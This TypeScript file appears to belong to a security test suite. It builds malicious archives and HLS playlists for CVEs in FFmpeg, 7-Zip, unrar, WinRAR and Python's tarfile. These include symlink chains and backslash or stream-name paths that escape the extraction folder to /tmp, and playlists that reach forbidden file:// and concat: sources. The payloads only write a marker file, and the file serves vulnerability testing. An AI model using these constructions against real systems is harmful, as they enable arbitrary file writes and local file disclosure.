/** Holes of FFmpeg, 7-Zip, unrar and Python's tarfile. */
import { harmless, refused } from '../attacks/attack.ts';
import { join, type TarItem, tar, zip } from '../attacks/bytes.ts';
import { byFile, byTool, type Cve } from './cve.ts';

const mark = 'hostile-archive';

/** Folders with long names, and links that climb through them: what resolves a path in full gives up before its end. */
const longWay = (): readonly TarItem[] => {
  const name = 'd'.repeat(90);
  return [
    { name: `${name}/`, type: '5', mode: 0o755 },
    { name: 'a', type: '2', link: name },
    ...Array.from({ length: 16 }, (_, index) => ({ name: `${'a/'.repeat(index + 1)}b`.slice(0, 99), type: '2', link: name })),
    { name: 'climb', type: '2', link: `${'a/'.repeat(16)}../../../../../tmp` },
    { name: `climb/${mark}`, data: 'words' },
    { name: 'hard', type: '1', link: 'climb' },
  ];
};

export const mediaAndArchiveHoles: readonly Cve[] = [
  byFile(
    ['CVE-2026-107697', 'FFmpeg', 'A playlist in a playlist opens files and protocols that are forbidden.'],
    refused(
      '',
      'ts mp4',
      ({ file, call }) =>
        `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nfile://${file}\n#EXT-X-STREAM-INF:BANDWIDTH=2\n${call}\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="concat:${call}|file://${file}"\n`,
    ),
  ),
  byFile(
    ['CVE-2026-107695', 'FFmpeg', 'A playlist that names itself is read without an end.'],
    refused(
      '',
      'mp4 mp3',
      join('\0\0\0\x14ftypisom\0\0\0\0isom', '\n#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nin.mp4\n#EXTINF:1,\n/job/in.mp4\n'),
    ),
  ),
  byTool(['CVE-2026-125175', 'FFmpeg', 'Pixels of a short block are what lay in memory before, so that the result holds it.'], 'ffmpeg'),
  byFile(
    ['CVE-2025-11001', '7-Zip', 'A link inside a ZIP leads out of the folder that it is unpacked to, and is written through.'],
    harmless('', 'zip tar', () =>
      zip([
        { name: 'way', data: '/tmp', mode: 0o120777 },
        { name: `way/${mark}`, data: 'words' },
        { name: 'other', data: 'C:\\..\\..\\tmp', mode: 0o120777 },
        { name: `other/${mark}`, data: 'words' },
        { name: 'words.txt', data: 'words' },
      ]),
    ),
  ),
  byFile(
    ['CVE-2025-55188', '7-Zip', 'Links to links lead out of the folder that an archive is unpacked to.'],
    harmless('', 'tar zip', () =>
      tar([
        { name: 'a/', type: '5', mode: 0o755 },
        { name: 'a/b', type: '2', link: '.' },
        { name: 'a/b/c', type: '2', link: '..' },
        { name: 'a/b/c/d', type: '2', link: '../../../../../../../../tmp' },
        { name: `a/b/c/d/${mark}`, data: 'words' },
        { name: 'words.txt', data: 'words' },
      ]),
    ),
  ),
  byTool(['CVE-2022-30333', 'unrar', 'A link with backslashes passes as harmless, and files are written through it.'], 'program', {
    calls: 'programs',
  }),
  byFile(
    ['CVE-2025-8088', 'WinRAR', 'Names with a stream of a file and backslashes lead out of the folder.'],
    harmless('', 'zip 7z', () =>
      zip([
        { name: `a.txt:..\\..\\..\\..\\tmp\\${mark}`, data: 'words' },
        { name: `..\\..\\..\\..\\tmp\\${mark}`, data: 'words' },
        { name: `a.txt:../../../../tmp/${mark}`, data: 'words' },
        { name: 'words.txt', data: 'words' },
      ]),
    ),
  ),
  byFile(
    ['CVE-2025-4517', 'Python tarfile', 'Links whose resolved path is too long pass a check, and files are written anywhere.'],
    harmless('', 'tar zip', () => tar(longWay()), { seconds: 30 }),
  ),
];
